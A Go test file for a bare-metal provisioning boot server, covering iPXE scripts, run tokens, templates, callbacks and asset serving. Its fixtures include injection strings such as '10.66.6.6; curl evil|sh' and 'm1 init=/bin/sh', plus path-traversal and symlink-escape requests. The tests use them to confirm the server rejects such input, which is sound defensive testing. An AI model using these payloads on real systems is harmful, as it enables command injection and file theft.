package boot

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/store"
)

type httpFixture struct {
	st     store.Store
	lc     *recordingLifecycle
	srv    *Server
	ts     *httptest.Server
	assets string
	kernel []byte
}

func newHTTPFixture(t *testing.T, mod func(*Config)) *httpFixture {
	t.Helper()
	st := openTestStore(t)
	lc := newRecordingLifecycle(st)
	base := t.TempDir()
	assets := filepath.Join(base, "assets")
	must(t, os.MkdirAll(assets, 0o755))
	kernel := []byte(strings.Repeat("0123456789abcdef", 4096))
	must(t, os.WriteFile(filepath.Join(assets, "vmlinuz"), kernel, 0o644))
	must(t, os.WriteFile(filepath.Join(assets, "initrd.img"), []byte("initrd"), 0o644))
	must(t, os.WriteFile(filepath.Join(base, "secret"), []byte("secret"), 0o600))
	must(t, os.Symlink(filepath.Join(base, "secret"), filepath.Join(assets, "escape")))
	cfg := Config{BootURL: "http://10.0.2.2:8081", AssetsDir: assets, TFTPRoot: t.TempDir(), Logger: quietLogger()}
	if mod != nil {
		mod(&cfg)
	}
	srv, err := New(cfg, st, StoreSecrets(st), lc)
	must(t, err)
	ts := httptest.NewServer(srv.HTTPHandler())
	t.Cleanup(ts.Close)
	mustCreateProfile(t, st, &model.BootProfile{
		Name: "p1", Kernel: "vmlinuz", Initrds: []string{"initrd.img"},
		Cmdline:   "console=ttyS0 site={{ .Params.site }}",
		Params:    map[string]string{"site": "lab"},
		Templates: map[string]string{"user-data": "name={{ .Machine.Name }} site={{ .Params.site }} cb={{ .URLs.Callback }}", "broken": "{{ .Params.nope }}", "lab": "stock:lab-user-data"},
	})
	return &httpFixture{st: st, lc: lc, srv: srv, ts: ts, assets: assets, kernel: kernel}
}

func (f *httpFixture) machine(t *testing.T, name, mac string, run *model.Run, params map[string]string) {
	t.Helper()
	mustCreateMachine(t, f.st, &model.Machine{Name: name, MACs: []string{mac}, BootProfile: "p1", Params: params,
		State: model.StateProvisioned, BMC: model.BMC{Endpoint: "http://127.0.0.1:1", Username: "u", Password: "p"}, Run: run})
}

func (f *httpFixture) get(t *testing.T, path string, hdr map[string]string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, f.ts.URL+path, nil)
	must(t, err)
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func (f *httpFixture) post(t *testing.T, path, body string, hdr map[string]string) int {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, f.ts.URL+path, strings.NewReader(body))
	must(t, err)
	req.Header.Set("Content-Type", "application/json")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	resp.Body.Close()
	return resp.StatusCode
}

func TestHTTPBootIPXEChainsToMachineScript(t *testing.T) {
	f := newHTTPFixture(t, nil)
	code, body := f.get(t, "/boot.ipxe", nil)
	want := "#!ipxe\nchain http://10.0.2.2:8081/boot/${netX/mac}?arch=${buildarch}&platform=${platform} || exit\n"
	if code != 200 || body != want {
		t.Fatalf("%d %q, want %q", code, body, want)
	}
}

func TestHTTPUnknownMAC(t *testing.T) {
	f := newHTTPFixture(t, nil)
	for i := 0; i < 3; i++ {
		code, body := f.get(t, "/boot/AA-BB-CC-DD-EE-01", nil)
		if code != 200 || body != exitScript {
			t.Fatalf("%d %q", code, body)
		}
	}
	sigs := f.lc.recorded()
	if len(sigs) != 1 || sigs[0].Signal != model.SignalUnknownMAC || sigs[0].Machine != "" || sigs[0].Data["mac"] != "aa:bb:cc:dd:ee:01" {
		t.Fatalf("signals = %+v, want one unknown_mac for aa:bb:cc:dd:ee:01 (rate-limited)", sigs)
	}
	if code, _ := f.get(t, "/boot/not-a-mac", nil); code != http.StatusBadRequest {
		t.Fatalf("bad MAC: %d", code)
	}
}

func TestHTTPUnknownMACDiscoveryProfile(t *testing.T) {
	f := newHTTPFixture(t, func(c *Config) { c.UnknownMAC = "p1" })
	code, body := f.get(t, "/boot/aa:bb:cc:dd:ee:02", nil)
	if code != 200 || !strings.Contains(body, "kernel http://10.0.2.2:8081/assets/vmlinuz console=ttyS0 site=lab baremetal.url=http://10.0.2.2:8081 baremetal.mac=aa:bb:cc:dd:ee:02 ${bm-initrds}\n") {
		t.Fatalf("%d\n%s", code, body)
	}
}

func TestHTTPKnownMachineNotProvisioningExits(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", nil, nil)
	code, body := f.get(t, "/boot/52:54:00:00:00:01?arch=x86_64&platform=pcbios", nil)
	if code != 200 || body != exitScript {
		t.Fatalf("%d %q", code, body)
	}
	// A used token means the install is done: boot the disk.
	f.machine(t, "m2", "52:54:00:00:00:02", &model.Run{ID: "r2", Token: "t2", Profile: "p1", TokenUsed: true}, nil)
	if _, body := f.get(t, "/boot/52:54:00:00:00:02", nil); body != exitScript {
		t.Fatalf("finished run served %q", body)
	}
	sigs := f.lc.recorded()
	if len(sigs) != 2 || sigs[0].Signal != model.SignalPXERequested || sigs[0].Machine != "m1" || sigs[0].Data["arch"] != "x86_64" || sigs[0].Data["platform"] != "pcbios" {
		t.Fatalf("signals = %+v", sigs)
	}
}

func TestHTTPProvisioningMachineGetsInstaller(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, map[string]string{"site": "rack7"})
	code, body := f.get(t, "/boot/52:54:00:00:00:01", nil)
	want := "#!ipxe\necho baremetal: booting installer p1 for m1\n" +
		"iseq ${platform} efi && set bm-initrds initrd=initrd0 || clear bm-initrds\n" +
		"kernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz?token=tok-1 console=ttyS0 site=rack7 baremetal.url=http://10.0.2.2:8081 baremetal.machine=m1 baremetal.token=tok-1 ${bm-initrds}\n" +
		"initrd --name initrd0 http://10.0.2.2:8081/machines/m1/assets/initrd.img?token=tok-1\nboot\n"
	if code != 200 || body != want {
		t.Fatalf("%d\n%s\nwant\n%s", code, body, want)
	}
	if got := f.lc.sequence("m1"); !slices.Equal(got, []model.Signal{model.SignalPXERequested, model.SignalScriptServed}) {
		t.Fatalf("signals = %v", got)
	}
}

func TestHTTPRenderFailureServesInertScript(t *testing.T) {
	f := newHTTPFixture(t, nil)
	_, err := f.st.UpdateProfile(context.Background(), "p1", func(p *model.BootProfile) error {
		p.Cmdline = "root={{ .Params.rootdev }}"
		return nil
	})
	must(t, err)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
	code, body := f.get(t, "/boot/52:54:00:00:00:01", nil)
	lines := strings.Split(strings.TrimSpace(body), "\n")
	// Anyone may ask for a MAC's script: the details go to the events only.
	require.Equal(t, 200, code)
	require.Equal(t, []string{"#!ipxe", "echo baremetal: render failed; see the machine's events", "exit"}, lines)
	sigs := f.lc.recorded()
	last := sigs[len(sigs)-1]
	if last.Signal != model.SignalRenderFailed || last.Machine != "m1" || !strings.Contains(last.Data["error"], "rootdev") {
		t.Fatalf("signals = %+v, want render_failed naming rootdev", sigs)
	}
	if slices.Contains(f.lc.sequence("m1"), model.SignalScriptServed) {
		t.Fatal("script_served signalled for a failed render")
	}
}

func TestHTTPClusterMemberUsesRoleProfile(t *testing.T) {
	f := newHTTPFixture(t, nil)
	mustCreateProfile(t, f.st, &model.BootProfile{Name: "worker-os", Kernel: "vmlinuz", Cmdline: "cp={{ .Cluster.ControlPlane }}"})
	ctx := context.Background()
	_, err := f.st.CreateCluster(ctx, &model.Cluster{Name: "c1",
		Roles:   []model.ClusterRole{{Name: "control-plane", BootProfile: "p1"}, {Name: "worker", BootProfile: "worker-os"}},
		Members: []model.ClusterMember{{Machine: "cp1", Role: "control-plane"}, {Machine: "w1", Role: "worker"}}})
	must(t, err)
	mustCreateMachine(t, f.st, &model.Machine{Name: "cp1", MACs: []string{"52:54:00:00:00:0a"}, State: model.StateProvisioned,
		// A store from before callbacks were validated may hold anything:
		// templates see the IP addresses only.
		Cluster: "c1", Role: "control-plane", Status: model.Status{Addresses: []string{"10.66.6.6;reboot", "cp.evil", "10.0.2.15"}}})
	mustCreateMachine(t, f.st, &model.Machine{Name: "w1", MACs: []string{"52:54:00:00:00:0b"}, BootProfile: "p1", State: model.StateProvisioned,
		Cluster: "c1", Role: "worker", Run: &model.Run{ID: "r", Token: "tw"}})
	_, body := f.get(t, "/boot/52:54:00:00:00:0b", nil)
	if !strings.Contains(body, "kernel http://10.0.2.2:8081/machines/w1/assets/vmlinuz?token=tw cp=10.0.2.15 baremetal.url=") {
		t.Fatalf("worker script:\n%s", body)
	}
}

func TestHTTPTemplates(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
	f.machine(t, "m2", "52:54:00:00:00:02", nil, nil)
	code, body := f.get(t, "/machines/m1/templates/user-data?token=tok-1", nil)
	if code != 200 || body != "name=m1 site=lab cb=http://10.0.2.2:8081/machines/m1/callback?token=tok-1" {
		t.Fatalf("%d %q", code, body)
	}
	if code, body = f.get(t, "/machines/m1/templates/user-data", map[string]string{"Authorization": "Bearer tok-1"}); code != 200 {
		t.Fatalf("bearer: %d %q", code, body)
	}
	for _, tc := range []struct {
		path string
		code int
	}{
		{"/machines/m1/templates/user-data?token=tok-2", 403},
		{"/machines/m1/templates/user-data?token=tok-", 403},
		{"/machines/m1/templates/user-data", 403},
		{"/machines/m2/templates/user-data?token=", 403}, // no run
		{"/machines/m1/templates/nope?token=tok-1", 404},
		{"/machines/ghost/templates/user-data?token=tok-1", 403}, // alike, so names cannot be probed
		{"/machines/ghost/templates/user-data", 403},
		{"/machines/m1/templates/broken?token=tok-1", 500},
	} {
		if code, body := f.get(t, tc.path, nil); code != tc.code || strings.Contains(body, "tok-1") {
			t.Errorf("%s: %d %q, want %d without the token", tc.path, code, body, tc.code)
		}
	}
	var fetched, failed int
	for _, s := range f.lc.recorded() {
		switch s.Signal {
		case model.SignalTemplatesFetched:
			fetched++
		case model.SignalRenderFailed:
			failed++
			if !strings.Contains(s.Data["error"], "nope") {
				t.Errorf("render_failed error %q does not name the key", s.Data["error"])
			}
		}
	}
	if fetched != 2 || failed != 1 {
		t.Fatalf("templates_fetched=%d render_failed=%d, want 2 and 1", fetched, failed)
	}
	code, body = f.get(t, "/machines/m1/templates/broken?token=tok-1", nil)
	require.Equal(t, "render failed; see the machine's events\n", body, "a render error's details reach the client (%d)", code)
}

// TestHTTPSpentTokenRefused: once a run's token is used (callback), or its
// run failed, was aborted or replaced (each marks it used), templates and
// per-machine assets refuse it like any wrong token.
func TestHTTPSpentTokenRefused(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
	paths := []string{"/machines/m1/templates/user-data?token=tok-1", "/machines/m1/assets/vmlinuz?token=tok-1"}
	for _, p := range paths {
		code, _ := f.get(t, p, nil)
		require.Equal(t, 200, code, p)
	}
	require.Equal(t, 204, f.post(t, "/machines/m1/callback?token=tok-1", `{"status":"ok"}`, nil))
	for _, p := range paths {
		code, body := f.get(t, p, nil)
		require.Equal(t, 403, code, "%s after the callback: %q", p, body)
	}
	_, err := f.st.UpdateMachine(context.Background(), "m1", func(m *model.Machine) (bool, error) {
		m.Run = &model.Run{ID: "r2", Token: "tok-2", Profile: "p1"}
		return false, nil
	})
	must(t, err)
	code, _ := f.get(t, "/machines/m1/templates/user-data?token=tok-1", nil)
	require.Equal(t, 403, code, "the previous run's token in a new run")
	code, _ = f.get(t, "/machines/m1/templates/user-data?token=tok-2", nil)
	require.Equal(t, 200, code, "the new run's token")
}

func TestHTTPCallback(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
	body := `{"addresses":["10.0.2.15"],"hostname":"m1","log_tail":"done","status":"ok","installer":"busybox"}`
	if code := f.post(t, "/machines/m1/callback?token=wrong", body, nil); code != 403 {
		t.Fatalf("wrong token: %d", code)
	}
	if code := f.post(t, "/machines/m1/callback", body, map[string]string{"Authorization": "Bearer tok-1"}); code != 204 {
		t.Fatalf("bearer token: %d", code)
	}
	if code := f.post(t, "/machines/m1/callback?token=tok-1", body, nil); code != 403 {
		t.Fatalf("replay: %d", code)
	}
	if code := f.post(t, "/machines/m1/callback?token=tok-1", "not json", nil); code != 400 {
		t.Fatalf("bad body: %d", code)
	}
	big := `{"log_tail":"` + strings.Repeat("x", maxCallbackBody) + `"}`
	if code := f.post(t, "/machines/m1/callback?token=tok-1", big, nil); code != 413 {
		t.Fatalf("oversized body: %d", code)
	}
	f.lc.mu.Lock()
	defer f.lc.mu.Unlock()
	if !slices.Equal(f.lc.tokens, []string{"wrong", "tok-1", "tok-1"}) {
		t.Fatalf("tokens passed to the lifecycle: %q", f.lc.tokens)
	}
	if len(f.lc.callbacks) != 1 || f.lc.callbacks[0].Addresses[0] != "10.0.2.15" || f.lc.callbacks[0].LogTail != "done" {
		t.Fatalf("callbacks = %+v", f.lc.callbacks)
	}
	m, err := f.st.GetMachine(context.Background(), "m1")
	must(t, err)
	if !m.Run.TokenUsed {
		t.Fatal("token not consumed")
	}
}

func TestHTTPAssets(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)

	code, body := f.get(t, "/assets/vmlinuz", map[string]string{"Range": "bytes=16-31"})
	if code != http.StatusPartialContent || body != string(f.kernel[16:32]) {
		t.Fatalf("range: %d %q", code, body)
	}
	resp, err := http.Head(f.ts.URL + "/assets/vmlinuz")
	must(t, err)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.ContentLength != int64(len(f.kernel)) || resp.Header.Get("Accept-Ranges") != "bytes" {
		t.Fatalf("HEAD: %d len %d ranges %q", resp.StatusCode, resp.ContentLength, resp.Header.Get("Accept-Ranges"))
	}
	for i := 0; i < 2; i++ {
		code, body = f.get(t, "/machines/m1/assets/vmlinuz?token=tok-1", nil)
		if code != 200 || body != string(f.kernel) {
			t.Fatalf("machine asset: %d (%d bytes)", code, len(body))
		}
	}
	for range 2 {
		f.get(t, "/machines/m1/assets/initrd.img?token=tok-1", map[string]string{"Range": "bytes=0-1"})
	}
	// One step per asset of the run's profile, however often it is fetched.
	require.Equal(t, []model.Signal{model.SignalKernelFetched, model.SignalInitrdFetched}, f.lc.sequence("m1"))
	require.Equal(t, "initrd.img", f.lc.recorded()[1].Data["path"])
	for _, p := range []string{"/assets/escape", "/assets/%2e%2e/secret", "/assets/..%2fsecret", "/machines/ghost/assets/vmlinuz", "/assets/nope"} {
		code, body := f.get(t, p, nil)
		if code == 200 || body == "secret" {
			t.Errorf("%s: %d %q", p, code, body)
		}
	}
	// Without the run's token, a known machine, an unknown one, a file that
	// exists and one that does not all get the same answer.
	for _, p := range []string{"/machines/m1/assets/vmlinuz", "/machines/m1/assets/nope", "/machines/ghost/assets/vmlinuz",
		"/machines/ghost/assets/nope", "/machines/m1/assets/vmlinuz?token=tok-2", "/machines/ghost/assets/vmlinuz?token=tok-1"} {
		code, body := f.get(t, p, nil)
		require.Equal(t, 403, code, p)
		require.Equal(t, "forbidden\n", body, p)
	}
}

// TestHTTPCallbackReportValidated: a report whose addresses are not IP
// addresses, or whose hostname is not a host name, is refused whole (400)
// before the token is spent, so nothing of it reaches templates.
func TestHTTPCallbackReportValidated(t *testing.T) {
	f := newHTTPFixture(t, nil)
	f.machine(t, "m1", "52:54:00:00:00:01", &model.Run{ID: "r1", Token: "tok-1", Profile: "p1"}, nil)
	for _, body := range []string{
		`{"addresses":["10.66.6.6; curl evil|sh"]}`,
		`{"addresses":["evil.example"]}`,
		`{"addresses":["10.0.2.15","{{ .Params }}"]}`,
		`{"addresses":["fe80::1%eth0"]}`,
		`{"hostname":"m1 init=/bin/sh"}`,
		`{"hostname":"-m1"}`,
		`{"hostname":"` + strings.Repeat("a", 64) + `"}`,
		`{"addresses":[` + strings.Repeat(`"10.0.0.1",`, model.MaxReportAddresses) + `"10.0.0.2"]}`,
	} {
		require.Equal(t, 400, f.post(t, "/machines/m1/callback?token=tok-1", body, nil), body)
	}
	f.lc.mu.Lock()
	require.Empty(t, f.lc.tokens, "a refused report reached the lifecycle")
	f.lc.mu.Unlock()
	require.Equal(t, 204, f.post(t, "/machines/m1/callback?token=tok-1", `{"addresses":["10.0.2.15/24","fd00::5"],"hostname":"m1.lab.example"}`, nil))
	f.lc.mu.Lock()
	defer f.lc.mu.Unlock()
	require.Equal(t, "127.0.0.1", f.lc.callbacks[0].From)
}

// TestCheckWaitsForTheControlPlane: a worker whose user-data needs the
// control plane's address (required) is not refused at save before the
// control plane has reported one; it only renders later. Any other render
// error in the same template still is.
func TestCheckWaitsForTheControlPlane(t *testing.T) {
	f := newHTTPFixture(t, nil)
	ctx := context.Background()
	worker := func(name, text string) *model.Machine {
		mustCreateProfile(t, f.st, &model.BootProfile{Name: name, Kernel: "vmlinuz",
			Templates: map[string]string{"user-data": text}})
		_, err := f.st.CreateCluster(ctx, &model.Cluster{Name: "c-" + name,
			Roles:   []model.ClusterRole{{Name: "control-plane", BootProfile: "p1"}, {Name: "worker", BootProfile: name}},
			Members: []model.ClusterMember{{Machine: "cp-" + name, Role: "control-plane"}, {Machine: "w-" + name, Role: "worker"}}})
		require.NoError(t, err)
		return &model.Machine{Name: "w-" + name, MACs: []string{"52:54:00:00:01:0b"}, State: model.StateProvisioned, Cluster: "c-" + name, Role: "worker"}
	}
	for _, tc := range []struct {
		name, text, refused string
	}{
		{"stock-etcd", StockPrefix + "cloud-init-etcd", ""},
		{"required-then-ok", `{{ required "the control plane's address" .Cluster.ControlPlane }}`, ""},
		{"missing-param", "{{ .Params.nosuch }}\n{{ required \"cp\" .Cluster.ControlPlane }}", `param "nosuch" is not set`},
		{"syntax", "{{ required \"cp\" .Cluster.ControlPlane }", "template \"user-data\""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := Check(ctx, f.st, "http://10.0.2.2:8081", worker(tc.name, tc.text), Proposed{})
			if tc.refused == "" {
				require.NoError(t, err)
				return
			}
			var ce *CheckError
			require.ErrorAs(t, err, &ce)
			require.Contains(t, err.Error(), tc.refused)
		})
	}
}
